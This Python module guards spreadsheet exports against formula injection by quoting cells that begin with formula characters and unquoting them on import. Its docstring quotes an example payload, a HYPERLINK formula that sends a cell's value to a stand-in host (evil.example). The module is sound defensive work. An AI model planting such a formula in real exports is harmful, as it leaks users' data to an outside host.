"""Text in spreadsheet cells that a spreadsheet shows and never runs.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return before one) as a formula, so a card named `=HYPERLINK("http://evil.example/?"&A1)`
would run when a designer opens an export. Every cell the toolkit writes goes through
`guarded`, which puts a single quote before such text, as OWASP recommends for CSV; `toolkit
import` reads cells through `unguarded`, which takes that quote off again, so an export read
back gives the same text.

A number (`-3`, `+2`, `-0.5`) is written as it is: a spreadsheet reads it as the number, and a
quote would turn it into text there. The quote is added before any other text whose first
character after its leading quotes is one of those, so text that starts with quotes of its
own (`'=x`) keeps them: `guarded` and `unguarded` undo each other for every text.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP's list)."""

_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _risky(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def guarded(value: Any) -> Any:
    """A cell's value as written: text a spreadsheet would run gets a quote in front; other
    values (numbers, plain text) are returned as they are."""
    if isinstance(value, str) and _risky(value):
        return "'" + value
    return value


def unguarded(value: Any) -> Any:
    """A cell's value as read: the quote `guarded` adds is taken off (one quote, before text a
    spreadsheet would run); anything else is returned as it is."""
    if isinstance(value, str) and value.startswith("'") and _risky(value[1:]):
        return value[1:]
    return value


def guarded_row(values: list[Any]) -> list[Any]:
    """Every cell of a row through `guarded`."""
    return [guarded(value) for value in values]
